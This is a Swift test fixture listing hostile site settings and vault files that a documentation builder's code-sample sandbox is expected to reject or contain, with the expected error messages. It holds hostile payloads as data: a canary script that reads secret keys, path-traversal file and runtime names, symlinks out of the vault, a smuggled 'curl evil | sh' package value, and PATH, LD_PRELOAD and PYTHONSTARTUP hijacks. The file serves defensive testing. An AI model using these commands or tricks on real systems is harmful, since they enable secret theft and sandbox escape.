import Foundation

/// A stranger's vault whose settings or notes concern runtimes. It must not run or show anything
/// outside of the sandbox. In all texts `HOST` stands for a folder outside the vault with a home,
/// and a program with a secret beside it.
struct HostileSettings: Sendable {
    var name: String
    /// The files of the vault. `N.md` has a sample unless it is given.
    var files: [String: String]
    /// A script that is run in the folder that contains the vault.
    var script = ""
    var environment: [String: String] = [:]
    /// Parts of the build's messages.
    var says: [String] = []
    /// The line that the sample prints, or nil if it doesn't run.
    var prints: String?

    init(
        _ name: String, _ settings: String, _ files: [String: String] = [:], script: String = "",
        environment: [String: String] = [:], says: [String] = [], prints: String? = nil
    ) {
        self.name = name
        self.files = files.merging(["site.yml": settings]) { $1 }
        self.script = script
        self.environment = environment
        self.says = says
        self.prints = prints
    }

    static let all = commands + folders + names + environments

    private static let evil = "#!/bin/sh\necho \"$CANARY_SECRET\" > HOST/pwned; cat HOST/opt/key\n"
    private static let peek = [
        "N.md": "```peek\nls -R HOST; cat HOST/opt/key HOST/home/.secret\n```\n"
    ]
    private static func peek(_ settings: String) -> String {
        "runtimes: {peek: {\(settings)}}\n"
    }

    private static let commands = [
        HostileSettings(
            "a version command that writes outside",
            """
            runtimes:
              cpython:
                command: [python3, "{file}"]
                version-command: [python3, -c, "open('HOST/pwned','w').write('x'); print('Python')"]
            """, prints: "sample ran"),
        HostileSettings(
            "a version command of a shell that writes outside",
            "runtimes: {cpython: {version-command: [sh, -c, 'echo x > HOST/pwned; echo v']}}\n",
            prints: "sample ran"),
        HostileSettings(
            "a version command that tells the environment",
            "runtimes: {cpython: {version-command: [env]}}\n", prints: "sample ran"),
        HostileSettings(
            "a version command that reads a home",
            "runtimes: {cpython: {version-command: [cat, HOST/home/.secret]}}\n",
            prints: "sample ran"),
        HostileSettings(
            "a version command that never ends",
            "limits: {timeout: 1s}\nruntimes: {cpython: {version-command: [yes]}}\n",
            prints: "sample ran"),
        HostileSettings(
            "a version command with an absolute path",
            "runtimes:\n  cpython:\n    version-command: [HOST/opt/bin/tool]\n",
            says: ["content/site.yml:3:23: error: “version-command” begins with the absolute path"]),
        HostileSettings(
            "a program of the vault by its absolute path",
            "runtimes:\n  peek:\n    command: [VAULT/tool.sh, \"{file}\"]\n    version-command: [x]\n",
            peek, script: "printf '\(evil)' > content/tool.sh; chmod +x content/tool.sh",
            says: ["content/site.yml:3:15: error: “command” begins with the absolute path"]),
        HostileSettings(
            "a program of the machine with secrets beside it",
            peek("command: [HOST/opt/bin/tool, \"{file}\"]"), peek,
            says: [
                "content/site.yml:1:29: error", "HOST/opt/bin/tool",
                "runtimes: {peek: {program: HOST/opt/bin/tool}}",
            ]),
        HostileSettings(
            "an absolute path to a file in every sandbox",
            peek("command: [/usr/bin/env, sh, \"{file}\"]"), peek,
            says: ["content/site.yml:1:29: error", "name the program alone, as env"]),
        HostileSettings(
            "an absolute compiler",
            peek("command: [\"{program}\"], compile-command: [HOST/opt/bin/tool, \"{file}\"]"),
            peek,
            says: ["content/site.yml:1:61: error: “compile-command” begins with the absolute path"]),
        HostileSettings(
            "a program in one's own folder of programs", peek("command: [mine, \"{file}\"]"), peek,
            environment: ["PATH": "HOST/home/.local/bin:/usr/bin:/bin"],
            says: ["mine lies outside of /usr", "write into your own settings", "content/N.md:2:1"]),
        HostileSettings(
            "a program that leads out of /usr by its name", peek("command: [\"..\", x]"), peek,
            says: ["content/site.yml:1:29: error: “command” does not begin with a program"]),
        HostileSettings(
            "a sample as a program", peek("command: [\"{file}\"]"), peek,
            says: ["content/site.yml:1:29: error: “command” does not begin with a program"]),
        HostileSettings(
            "a zero byte in a command", peek("command: [sh, \"a\\0b\"]"), peek,
            says: ["content/site.yml:1:28: error: “command” holds a zero byte"]),
        HostileSettings(
            "a command that is no text", peek("command: [[sh]]"), peek,
            says: ["content/site.yml:1:29: error"]),
        HostileSettings(
            "a command that is too long",
            peek("command: [sh, -c, \"\(String(repeating: "x", count: 70_000))\"]"), peek,
            says: ["content/site.yml:1:28: error: “command” holds more than 64 KiB"]),
        HostileSettings(
            "keys that only the user's settings may have",
            "runtimes:\n  cpython:\n    program: HOST/opt/bin/tool\n",
            says: ["content/site.yml:3:5: error: “cpython” has no key “program”"],
            prints: "sample ran"),
        HostileSettings(
            "a command that tells where the program is",
            "runtimes:\n  cpython:\n    locate-command: [sh, -c, 'echo HOST/opt']\n",
            says: ["content/site.yml:3:5: error: “cpython” has no key “locate-command”"],
            prints: "sample ran"),
    ]

    private static let folders = [
        HostileSettings(
            "the home of root", peek("command: [sh, \"{file}\"], reads: [/root]"), peek,
            says: ["content/site.yml:1:52: error: /root is no folder of the vault"]),
        HostileSettings(
            "a folder of the machine", peek("command: [sh, \"{file}\"], reads: [HOST/opt]"), peek,
            says: ["content/site.yml:1:52: error: HOST/opt is no folder of the vault"]),
        HostileSettings(
            "one's home", peek("command: [sh, \"{file}\"], reads: [~]"), peek,
            says: ["content/site.yml:1:52: error"]),
        HostileSettings(
            "the folder around the vault", peek("command: [sh, \"{file}\"], reads: [..]"), peek,
            says: ["content/site.yml:1:52: error: .. leads out of the vault"]),
        HostileSettings(
            "a detour out of the vault", peek("command: [sh, \"{file}\"], reads: [a/../../..]"),
            peek,
            says: ["content/site.yml:1:52: error: a/../../.. leads out of the vault"]),
        HostileSettings(
            "the whole vault", peek("command: [sh, \"{file}\"], reads: [.]"), peek,
            says: ["content/site.yml:1:52: error: samples don't see the vault as a whole"]),
        HostileSettings(
            "the repository's own folder", peek("command: [sh, \"{file}\"], reads: [.git]"), peek,
            script: "mkdir content/.git; cp HOST/opt/key content/.git/config",
            says: ["content/site.yml:1:52: error: .git is hidden"]),
        HostileSettings(
            "a link to the repository's own folder",
            peek("command: [sh, \"{file}\"], reads: [tools]"),
            ["N.md": "```peek\ncat /vault/tools/config\n```\n"],
            script: "mkdir content/.git; cp HOST/opt/key content/.git/config; "
                + "ln -s .git content/tools",
            says: ["content/site.yml:1:52: error: tools leads to a hidden folder"]),
        HostileSettings(
            "a folder with a repository in it",
            peek("command: [sh, \"{file}\"], reads: [tools]"),
            ["N.md": "```peek\ncat /vault/tools/x/.git/config\n```\n"],
            script: "mkdir -p content/tools/x/.git; cp HOST/opt/key content/tools/x/.git/config",
            says: ["content/site.yml:1:52: error: tools holds a repository"]),
        HostileSettings(
            "a link out of the vault", peek("command: [sh, \"{file}\"], reads: [tools]"),
            ["N.md": "```peek\ncat /vault/tools/key\n```\n"],
            script: "ln -s HOST/opt content/tools",
            says: ["content/site.yml:1:52: error: tools leads out of the vault by a symbolic link"]),
        HostileSettings(
            "a link in a folder that samples may read",
            peek("command: [sh, \"{file}\"], reads: [tools]"),
            ["N.md": "```peek\ncat /vault/tools/key || echo not there\n```\n"],
            script: "mkdir content/tools; ln -s HOST/opt/key content/tools/key",
            prints: "not there"),
        HostileSettings(
            "a program behind a link out of the vault", peek("command: [tools/tool, \"{file}\"]"),
            peek, script: "ln -s HOST/opt/bin content/tools",
            says: ["content/site.yml:1:29: error: tools leads out of the vault by a symbolic link"]),
        HostileSettings(
            "a program that is a link out of the vault", peek("command: [tools/tool, \"{file}\"]"),
            peek, script: "mkdir content/tools; ln -s HOST/opt/bin/tool content/tools/tool",
            says: ["content/N.md:2:1: error", "can't be started", "No such file"]),
        HostileSettings(
            "a program outside by dots", peek("command: [../../host/opt/bin/tool, \"{file}\"]"),
            peek,
            says: ["content/site.yml:1:29: error: ../../host/opt/bin leads out of the vault"]),
        HostileSettings(
            "a program at the top of the vault", peek("command: [./tool.sh, \"{file}\"]"), peek,
            says: ["content/site.yml:1:29: error: tool.sh lies at the top of the vault"]),
    ]

    private static func named(_ value: String) -> String {
        "runtimes:\n  w:\n    command: [sh, \"{file}\"]\n    file-name: \(value)\n"
    }

    private static let write = ["N.md": "```w\necho x > HOST/pwned\n```\n"]

    private static let names =
        [
            "\"../../oldroot/HOST/pwned\"", "HOST/pwned", "..", ".", "\"\"", "a/b", "\"a\\0b\"",
            "\"a\\nb\"", "'a\\b'", "-c", String(repeating: "n", count: 300),
        ].map { value in
            HostileSettings(
                "a source file called \(value.prefix(30))", named(value), write,
                says: ["content/site.yml:4:16: error: “file-name” must be"])
        } + [
            HostileSettings(
                "a runtime named like a path",
                "runtimes:\n  ../../../HOST/pwned:\n    command: [sh, \"{file}\"]\n", write,
                says: ["content/site.yml:2:3: error", "can't be the name of a runtime"]),
            HostileSettings(
                "a language named like markup",
                "runtimes:\n  w:\n    command: [sh]\n    languages: [\"<script>\", ../x]\n", write,
                says: ["content/site.yml:4:17: error", "content/site.yml:4:29: error"]),
            HostileSettings(
                "a package that is a command",
                "runtimes:\n  w:\n    command: [no-such-program]\n"
                    + "    apt-package: x; curl evil | sh\n", write,
                says: ["content/site.yml:4:18: error: “apt-package” must be"]),
            HostileSettings(
                "a comment over lines",
                "runtimes:\n  w:\n    command: [sh, \"{file}\"]\n    comment: \"a\\nb\"\n", write,
                says: ["content/site.yml:4:14: error: “comment” must be"]),
        ]

    private static let bash = ["N.md": "```bash\necho sample ran\n```\n"]

    private static let environments = [
        HostileSettings(
            "a program in the vault that PATH names", "title: x\n", bash,
            script: "mkdir content/bin; printf '\(evil)' > content/bin/bash; "
                + "cp content/bin/bash content/bin/bwrap; chmod +x content/bin/*",
            environment: ["PATH": "VAULT/bin:/usr/bin:/bin"], prints: "sample ran"),
        HostileSettings(
            "a program in the working directory that PATH names", "title: x\n", bash,
            script: "mkdir bin; printf '\(evil)' > bin/bash; cp bin/bash bash; "
                + "cp bash bwrap; chmod +x bin/bash bash bwrap",
            environment: ["PATH": "bin:.::/usr/bin:/bin:"], prints: "sample ran"),
        HostileSettings(
            "a folder of PATH that is a link into the vault", "title: x\n", bash,
            script: "mkdir content/bin; printf '\(evil)' > content/bin/bash; "
                + "chmod +x content/bin/bash; ln -s VAULT/bin HOST/linked",
            environment: ["PATH": "HOST/linked:/usr/bin:/bin"], prints: "sample ran"),
        HostileSettings(
            "a program of PATH that is a link into the vault", "title: x\n", bash,
            script: "mkdir content/bin; printf '\(evil)' > content/bin/bash; "
                + "chmod +x content/bin/bash; mkdir HOST/links; "
                + "ln -s VAULT/bin/bash HOST/links/bash",
            environment: ["PATH": "HOST/links:/usr/bin:/bin"], prints: "sample ran"),
        HostileSettings(
            "modules that Python takes from its environment", "title: x\n",
            [
                "sitecustomize.py": "open('HOST/pwned', 'w')",
                "usercustomize.py": "open('HOST/pwned', 'w')",
            ],
            script: "cp content/*.py .",
            environment: [
                "PYTHONPATH": "VAULT:.", "PYTHONSTARTUP": "VAULT/sitecustomize.py",
                "PYTHONUSERBASE": "VAULT",
                // Highlighting has nothing to do with runtimes, so it may use the repository's
                // grammars.
                "SITE_GRAMMARS": TinyVault.repository + "/.tools/grammars",
            ], prints: "sample ran"),
        HostileSettings(
            "a version that the working directory asks for", "title: x\n",
            script: "echo 0.1 > .python-version; echo 0.1 > content/.python-version; "
                + "echo '[toolchain]\nchannel = \"evil\"' > rust-toolchain.toml",
            prints: "sample ran"),
        HostileSettings(
            "a preloaded library for the sample", "title: x\n",
            [
                "N.md": "```sh env.LD_PRELOAD=/sample/x.so env.BASH_ENV=/sample/x inputs=x.so\n"
                    + "echo sample ran\n```\n",
                "x.so": "no library",
            ], prints: "sample ran"),
        HostileSettings(
            "settings for the builder in the vault", peek("command: [mine, \"{file}\"]"),
            [
                "N.md": "```peek\ncat HOST/opt/key\n```\n",
                ".config/site/settings.yml":
                    "runtimes: {peek: {program: HOST/opt/bin/tool, reads: [HOST/opt]}}\n",
            ],
            script: "mkdir -p .config; cp -r content/.config/site .config/; cp -r .config/site .",
            environment: ["XDG_CONFIG_HOME": ".config"], says: ["mine is not installed"]),
        HostileSettings(
            "settings that are a link to a secret", "title: x\n",
            script: "rm content/site.yml; ln -s HOST/opt/key content/site.yml",
            says: ["content/site.yml: error: this symbolic link leads out of the vault"],
            prints: "sample ran"),
        HostileSettings(
            "an input that is a link to a secret", "title: x\n",
            ["N.md": "```sh inputs=key\ncat key\n```\n\n```sh file=key\n```\n"],
            script: "ln -s HOST/opt/key content/key",
            says: [
                "content/N.md:1:1: error: there is no input file “key”", "content/N.md:5:1: error",
            ]),
    ]
}
